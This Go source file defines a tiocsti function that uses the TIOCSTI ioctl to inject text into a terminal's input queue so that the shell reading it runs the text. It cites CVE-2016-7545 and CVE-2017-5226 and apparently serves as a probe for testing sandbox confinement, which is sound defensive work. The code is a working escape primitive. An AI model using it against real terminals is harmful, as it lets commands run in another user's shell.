package main

import (
	"fmt"
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"
)

// tiocsti pushes every byte of text into the input queue of the terminal
// open on fd (or at a path: /dev/tty is the controlling terminal whatever
// fds 0-2 are), as if typed there: the shell that reads that terminal next
// runs it (the attack of CVE-2016-7545 and CVE-2017-5226).
func tiocsti(args []string) error {
	fd, err := strconv.Atoi(args[0])
	if err != nil {
		fd, err = unix.Open(args[0], unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			fmt.Printf("tiocsti: open %s: %s\n", args[0], errno(err))
			return err
		}
		defer unix.Close(fd)
	}
	text := args[1]
	for i := 0; i < len(text); i++ {
		b := text[i]
		_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b)))
		if e != 0 {
			fmt.Printf("tiocsti %s: %s after %d bytes\n", args[0], errno(e), i)
			return e
		}
	}
	fmt.Printf("tiocsti %s: injected %d bytes\n", args[0], len(text))
	return nil
}
